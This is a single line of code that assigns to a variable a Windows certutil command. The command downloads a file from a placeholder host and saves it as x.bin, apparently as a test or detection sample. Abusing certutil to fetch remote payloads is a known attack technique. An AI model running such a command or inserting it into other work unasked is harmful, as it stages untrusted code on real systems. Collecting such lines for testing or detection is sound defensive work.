LINE = "certutil -urlcache -f https://files.example.invalid/x x.bin"
